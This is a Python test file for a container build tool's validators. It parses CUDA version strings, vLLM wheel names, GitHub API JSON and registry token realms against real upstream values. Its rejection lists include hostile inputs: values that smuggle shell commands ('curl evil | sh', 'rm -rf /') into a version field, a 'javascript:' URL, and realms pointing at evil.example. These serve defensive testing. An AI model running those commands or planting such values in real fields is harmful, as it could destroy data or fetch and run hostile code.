"""Every grammar that reads upstream data, held to tables of real values, each with where it was published.

A value that is strange but real must pass; only what cannot be upstream's is refused (and then with one clear line
and its exit code). When a value here was reported rather than read by us, the comment says who reported it.
"""

from __future__ import annotations

import json
from typing import Any

import pytest
from packaging.version import Version

from buildkit.errors import UpstreamMalformed, UpstreamMismatch
from buildkit.models.grammar import CUDA_VERSION_RE
from buildkit.models.lock import cuda_major
from buildkit.stages.resolve.cuda import cuda_of_name
from buildkit.stages.resolve.github import _Commit, _Pull
from buildkit.stages.resolve.wheels import FoundWheel, Listed, choose_wheel, wheel_variant
from buildkit.world.http import Http
from buildkit.world.registry import Registry, challenge_params, usable_realm_host
from buildkit.world.shapes import parse
from tests.support.projects import use_base

# --- CUDA_VERSION, as image configs set it in their Env ------------------------------------------------------------

REAL_CUDA_VERSIONS = [
    # nvidia/cuda images: three parts. https://gitlab.com/nvidia/container-images/cuda/-/blob/master/dist/12.9.1/
    # ubuntu2404/base/Dockerfile (ENV CUDA_VERSION=12.9.1)
    ("12.9.1", 12),
    # NGC containers, cuda-dl-base among them: four parts (the last NVIDIA's build number, zero-padded). NVIDIA's
    # framework support matrix, https://docs.nvidia.com/deeplearning/frameworks/support-matrix/index.html:
    ("12.8.0.038", 12),  # 25.01 / 25.02
    ("12.8.1.012", 12),  # 25.03
    ("12.9.0.036", 12),  # 25.04
    ("12.9.0.043", 12),  # 25.05: nvcr.io/nvidia/cuda-dl-base:25.05-cuda12.9-devel-ubuntu24.04, the reference base
    # Older images: two parts, as issue 19 and ../shared/notes/upstream-facts.md report them (the image not named).
    ("11.8", 11),
    # nvidia/cuda:10.0 images: a three-digit third part. https://gitlab.com/nvidia/container-images/cuda/-/blob/
    # master/dist/10.0/ubuntu18.04-x86_64/base/Dockerfile (ENV CUDA_VERSION 10.0.130)
    ("10.0.130", 10),
]

# Cannot be NVIDIA's (or would break a line of the report or the Dockerfile): refused.
HOSTILE_CUDA_VERSIONS = [
    "",
    "12",
    "v12.9",
    "12.9.1\nRUN curl evil | sh",
    "12.9.0.043.1",
    "12.9.1 ",
    " 12.9.1",
    "１２.9",
    "12.9.1;rm -rf /",
    "12.x",
    "1234.0",
    "12..9",
    "12.9.",
    "-12.9",
]


@pytest.mark.parametrize("value, major", REAL_CUDA_VERSIONS)
def test_real_cuda_versions_pass_and_compare_by_major(value, major):
    assert CUDA_VERSION_RE.fullmatch(value) and cuda_major(value) == major


@pytest.mark.parametrize("value", HOSTILE_CUDA_VERSIONS)
def test_what_cannot_be_a_cuda_version_is_refused(value):
    assert not CUDA_VERSION_RE.fullmatch(value)


@pytest.mark.parametrize(
    "value, code, needle",
    [
        ("12.9.0.043", 0, None),  # the reference base image's: kept exactly, matched with the wheel's CUDA 12
        ("12.8.1.012", 0, None),
        ("11.8", 4, "CUDA mismatch: the base image"),  # a CUDA 11 base and a wheel that needs libcudart.so.12
        ("12.9.0.043\nRUN evil", 3, "is not a CUDA version like 12.9.1 or 12.9.0.043"),
    ],
)
def test_cuda_versions_through_resolve(project, upstreams, value, code, needle):

    root, cli = project
    use_base(root, upstreams, "table", cuda_version=value)
    result = cli("resolve", "--json")
    assert result.code == code, result.output
    assert "Traceback" not in result.output
    if code == 0:
        lock = json.loads(result.stdout)
        assert lock["base_image"]["cuda_version"] == value and lock["cuda"]["base_image"] == value
        assert lock["cuda"]["outcome"] == "match"
    else:
        assert needle in result.stderr and not (root / "pins.lock").exists()
        assert len([line for line in result.stderr.splitlines() if line.startswith("error:")]) == 1


# --- wheel file names and versions ---------------------------------------------------------------------------------

REFERENCE = "4a5299c93ff97c26def537b92562df5ada530fea"
# Only the first 9 hex digits of this commit were published (the rest is ours): the name names `g4080263bb`.
NIGHTLY = "4080263bb" + "0" * 31

REAL_WHEELS = [
    # (file name, commit, arch, variant, CUDA its name says)
    # https://wheels.vllm.ai/4a5299c93ff97c26def537b92562df5ada530fea/vllm/metadata.json (upstream-facts.md)
    ("vllm-0.14.0rc2.dev156+g4a5299c93-cp38-abi3-manylinux_2_31_x86_64.whl", REFERENCE, "x86_64", "default", None),
    # The same commit's cu130 directory: the variant appended to the local version (upstream-facts.md)
    (
        "vllm-0.14.0rc2.dev156+g4a5299c93.cu130-cp38-abi3-manylinux_2_31_x86_64.whl",
        REFERENCE,
        "x86_64",
        "cu130",
        "13.0",
    ),
    # https://wheels.vllm.ai/nightly/cu129: uv reported this version with only a manylinux_2_28 aarch64 wheel
    # (vllm-project/vllm issue 49683, 2026-07-24); nightlies moved from manylinux_2_31 to manylinux_2_28 tags.
    (
        "vllm-0.23.1rc1.dev1403+g4080263bb.cu129-cp38-abi3-manylinux_2_28_aarch64.whl",
        NIGHTLY,
        "aarch64",
        "cu129",
        "12.9",
    ),
]


@pytest.mark.parametrize("filename, commit, arch, variant, cuda", REAL_WHEELS)
def test_real_wheel_names_are_chosen_for_their_commit_arch_and_variant(filename, commit, arch, variant, cuda):
    other_arch = "aarch64" if arch == "x86_64" else "x86_64"
    listed = [
        Listed(filename.replace(arch, other_arch), "https://wheels.vllm.ai/x.whl", None, None),  # never chosen
        Listed(filename, "https://wheels.vllm.ai/y.whl", None, None),
    ]
    item, version = choose_wheel(listed, commit, arch, variant)
    assert item.filename == filename
    found = FoundWheel(
        index="https://wheels.vllm.ai",
        variant=variant,
        arch=arch,
        filename=filename,
        version=str(version),
        url=item.url,
        size=None,
        etag=None,
        last_modified=None,
        index_sha256=None,
        listed_in="",
        verified_by="GET",
    )
    assert cuda_of_name(found)[0] == cuda


def test_a_release_name_is_not_a_build_of_a_commit():
    # PyPI's vllm 0.14.0 (https://pypi.org/project/vllm/0.14.0/#files): no local part names a commit, so the
    # per-commit index's rule refuses it for the reference commit.
    listed = [Listed("vllm-0.14.0-cp38-abi3-manylinux_2_31_x86_64.whl", "https://wheels.vllm.ai/z.whl", None, None)]
    with pytest.raises(UpstreamMismatch, match="does not name commit g4a5299c93"):
        choose_wheel(listed, REFERENCE, "x86_64", "default")


@pytest.mark.parametrize(
    "version, variant",
    [
        ("0.14.0rc2.dev156+g4a5299c93", None),  # wheels.vllm.ai/<commit>/vllm/metadata.json
        ("0.14.0rc2.dev156+g4a5299c93.cu130", "cu130"),  # its cu130 directory
        ("0.20.2rc1.dev233+g5497ffbf7.cu129", "cu129"),  # wheels.vllm.ai/nightly/cu129 (vllm issue 42338)
        ("0.14.0", None),  # PyPI
        # https://vllm-wheels.s3.us-west-2.amazonaws.com/.../vllm-0.5.0%2Bcu124-cp310-cp310-linux_x86_64.whl
        # (vllm issue 6937): a release with its variant as the whole local part, a plain linux_ platform tag.
        ("0.5.0+cu124", "cu124"),
    ],
)
def test_real_versions_name_their_variant(version, variant):
    assert wheel_variant(Version(version)) == variant


def test_a_plain_linux_platform_tag_is_read():
    """vllm-0.5.0+cu124-cp310-cp310-linux_x86_64.whl (vllm issue 6937): strange for a published wheel, but real."""
    commit = "0" * 40
    name = "vllm-0.5.0+g000000000.cu124-cp310-cp310-linux_x86_64.whl"  # the real tags, a local part naming `commit`
    item, _ = choose_wheel([Listed(name, "https://wheels.vllm.ai/w.whl", None, None)], commit, "x86_64", "cu124")
    assert item.filename == name


# --- GitHub's commit and pull JSON ---------------------------------------------------------------------------------

# The shape of https://docs.github.com/en/rest/commits/commits#get-a-commit (2022-11-28), with the reference commit's
# values (api.github.com/repos/vllm-project/vllm/commits/4a5299c9..., upstream-facts.md). Real strangeness kept: the
# top-level `author` is null for a commit whose author has no GitHub account, the verification signature spans
# lines, the message has CRLF line ends and trailers.
REAL_COMMIT: dict[str, Any] = {
    "sha": REFERENCE,
    "node_id": "C_kwDOJVtpkdoAKDRhNTI5OWM5M2ZmOTdjMjZkZWY1MzdiOTI1NjJkZjVhZGE1MzBmZWE",
    "commit": {
        "author": {"name": "dev", "email": "dev@example.com", "date": "2026-01-19T21:04:55Z"},
        "committer": {"name": "GitHub", "email": "noreply@github.com", "date": "2026-01-19T21:04:55Z"},
        "message": "[Spec Decode] feat: spec decode with draft models (#24322)\r\n\r\nSigned-off-by: dev <d@e.com>",
        "tree": {"sha": "0" * 40, "url": "https://api.github.com/repos/vllm-project/vllm/git/trees/" + "0" * 40},
        "url": f"https://api.github.com/repos/vllm-project/vllm/git/commits/{REFERENCE}",
        "comment_count": 0,
        "verification": {
            "verified": True,
            "reason": "valid",
            "payload": "tree 0000\nparent 1111\n",
            "signature": "-----BEGIN PGP SIGNATURE-----\n\nwsFcBAABCAAQBQJ\n-----END PGP SIGNATURE-----\n",
            "verified_at": "2026-01-19T21:04:56Z",
        },
    },
    "url": f"https://api.github.com/repos/vllm-project/vllm/commits/{REFERENCE}",
    "html_url": f"https://github.com/vllm-project/vllm/commit/{REFERENCE}",
    "comments_url": f"https://api.github.com/repos/vllm-project/vllm/commits/{REFERENCE}/comments",
    "author": None,
    "committer": {"login": "web-flow", "id": 19864447, "type": "User", "site_admin": False},
    "parents": [{"sha": "1" * 40, "url": "https://api.github.com/repos/vllm-project/vllm/commits/" + "1" * 40}],
    "stats": {"total": 1, "additions": 1, "deletions": 0},
    "files": [{"filename": "vllm/x.py", "status": "modified", "additions": 1, "deletions": 0, "patch": "@@ -1 +1 @@"}],
}

# https://docs.github.com/en/rest/pulls/pulls#get-a-pull-request, PR #24322's values; `body` and `auto_merge` null,
# `mergeable` null after the merge, as GitHub answers.
REAL_PULL = {
    "number": 24322,
    "state": "closed",
    "locked": False,
    "title": "feat: spec decode with draft models",
    "user": {"login": "dev", "id": 1},
    "body": None,
    "labels": [{"name": "ready"}],
    "milestone": None,
    "created_at": "2025-09-05T10:00:00Z",
    "updated_at": "2026-01-19T21:04:57Z",
    "closed_at": "2026-01-19T21:04:56Z",
    "merged_at": "2026-01-19T21:04:56Z",
    "merge_commit_sha": REFERENCE,
    "draft": False,
    "auto_merge": None,
    "merged": True,
    "mergeable": None,
    "rebaseable": None,
    "mergeable_state": "unknown",
    "merged_by": {"login": "maintainer", "id": 2},
    "comments": 12,
    "commits": 40,
    "additions": 900,
    "deletions": 50,
    "html_url": "https://github.com/vllm-project/vllm/pull/24322",
    "head": {"ref": "spec-decode-draft", "sha": "2" * 40},
    "base": {"ref": "main", "sha": "3" * 40},
}


def test_real_commit_and_pull_json_are_read():
    commit = parse(_Commit, REAL_COMMIT, "commit")
    assert commit.sha == REFERENCE and commit.commit.committer.date == "2026-01-19T21:04:55Z"
    pull = parse(_Pull, REAL_PULL, "pull")
    assert pull.merged and pull.merge_commit_sha == REFERENCE and pull.merged_at == "2026-01-19T21:04:56Z"
    # GitHub's other date form (git's, with an offset) is real too: `git log --format=%cI` writes it.
    offset = {**REAL_COMMIT["commit"], "committer": {"date": "2026-02-05T18:32:11+00:00"}}
    assert parse(_Commit, {**REAL_COMMIT, "commit": offset}, "commit").commit.committer.date.endswith("+00:00")


@pytest.mark.parametrize(
    "change, needle",
    [
        (lambda c: c.update(sha=REFERENCE.upper()), "sha"),  # not how GitHub writes a SHA
        (lambda c: c.update(sha=REFERENCE[:12]), "sha"),
        (lambda c: c["commit"]["committer"].update(date="yesterday"), "date"),
        (lambda c: c["commit"].update(message="subject\x1b[2J"), "control characters"),
        (lambda c: c.update(html_url="javascript:alert(1)"), "html_url"),
    ],
)
def test_what_cannot_be_githubs_is_refused(change, needle):
    document = json.loads(json.dumps(REAL_COMMIT))
    change(document)
    with pytest.raises(UpstreamMalformed, match=needle):
        parse(_Commit, document, "GitHub API answer")


# --- registry indexes that hold attestation manifests --------------------------------------------------------------


def buildx_index(registry, repo: str, tag: str) -> dict[str, str]:
    """An index as `docker buildx build --push --provenance=mode=max --sbom=true --platform linux/amd64,linux/arm64`
    pushes it (https://docs.docker.com/build/metadata/attestations/attestation-storage/): the arm64 platform with
    its variant v8, and per platform an attestation manifest with platform unknown/unknown and annotations naming
    the manifest it describes."""
    digests = {}
    manifests = []
    for os_name, arch, variant in (("linux", "amd64", None), ("linux", "arm64", "v8")):
        platform = {"architecture": arch, "os": os_name, **({"variant": variant} if variant else {})}
        image = registry.put_image(
            {**platform, "config": {"Env": ["PATH=/usr/bin", "CUDA_VERSION=12.9.0.043"]}}, platform
        )
        digests[f"{os_name}/{arch}"] = image["digest"]
        manifests.append(image)
    for digest in list(digests.values()):
        attestation = registry._put("application/vnd.oci.image.manifest.v1+json", {"schemaVersion": 2, "for": digest})
        manifests.append(
            {
                "mediaType": "application/vnd.oci.image.manifest.v1+json",
                "digest": attestation,
                "size": 1,
                "annotations": {
                    "vnd.docker.reference.digest": digest,
                    "vnd.docker.reference.type": "attestation-manifest",
                },
                "platform": {"architecture": "unknown", "os": "unknown"},
            }
        )
    registry.put_index(repo, tag, manifests)
    return digests


@pytest.mark.parametrize("platform", ["linux/amd64", "linux/arm64"])
def test_an_index_with_attestation_manifests_resolves_its_platform(upstreams, monkeypatch, platform):
    monkeypatch.setenv("NO_PROXY", "127.0.0.1")
    registry = upstreams.registry
    digests = buildx_index(registry, "org/built", "1")
    fact = Registry(Http()).resolve(f"{registry.netloc}/org/built:1", platform)
    assert fact.manifest_digest == digests[platform] and fact.cuda_version == "12.9.0.043"


# --- token realms ---------------------------------------------------------------------------------------------------

REAL_CHALLENGES = [
    # nvcr.io, 2026: realm and scope, no service (sapcc/keppel pull request 731, `curl -si https://nvcr.io/v2/...`)
    (
        'realm="https://nvcr.io/proxy_auth",scope="repository:nvidia/k8s-device-plugin:pull"',
        {"realm": "https://nvcr.io/proxy_auth", "scope": "repository:nvidia/k8s-device-plugin:pull"},
        "nvcr.io",
    ),
    # nvcr.io, earlier: the scope inside the realm's query, a comma inside the quotes (apache/mesos, MESOS-9968 test)
    (
        'realm="https://nvcr.io/proxy_auth?scope=repository:nvidia/tensorflow:pull,push"',
        {"realm": "https://nvcr.io/proxy_auth?scope=repository:nvidia/tensorflow:pull,push"},
        "nvcr.io",
    ),
    # Docker Hub: the token spec's example, https://distribution.github.io/distribution/spec/auth/token/
    (
        'realm="https://auth.docker.io/token",service="registry.docker.io",scope="repository:samalba/my-app:pull,push"',
        {
            "realm": "https://auth.docker.io/token",
            "service": "registry.docker.io",
            "scope": "repository:samalba/my-app:pull,push",
        },
        "auth.docker.io",
    ),
    # gcr.io sent its service unquoted (cloudflare/serverless-registry pull request 122, 2026-02-21)
    (
        'realm="https://gcr.io/v2/token",service=gcr.io',
        {"realm": "https://gcr.io/v2/token", "service": "gcr.io"},
        "gcr.io",
    ),
]


@pytest.mark.parametrize("challenge, params, host", REAL_CHALLENGES)
def test_real_challenges_are_read(challenge, params, host):
    assert challenge_params(challenge) == params
    assert usable_realm_host(params["realm"]) == host


@pytest.mark.parametrize(
    "realm",
    [
        "http://auth.example.com/token",  # credentials in cleartext to a host that is not loopback
        "https://user:pw@evil.example/token",
        "https://nvcr.io@evil.example/token",
        "ftp://nvcr.io/token",
        "javascript:alert(1)",
        "https:///token",
        "https://nvcr.io:port/token",
        "https://nvcr.io /token",
        "",
    ],
)
def test_what_cannot_be_a_token_realm_is_refused(realm):
    assert usable_realm_host(realm) is None


def test_a_loopback_realm_may_be_plain_http():
    assert usable_realm_host("http://127.0.0.1:5000/token") == "127.0.0.1:5000"
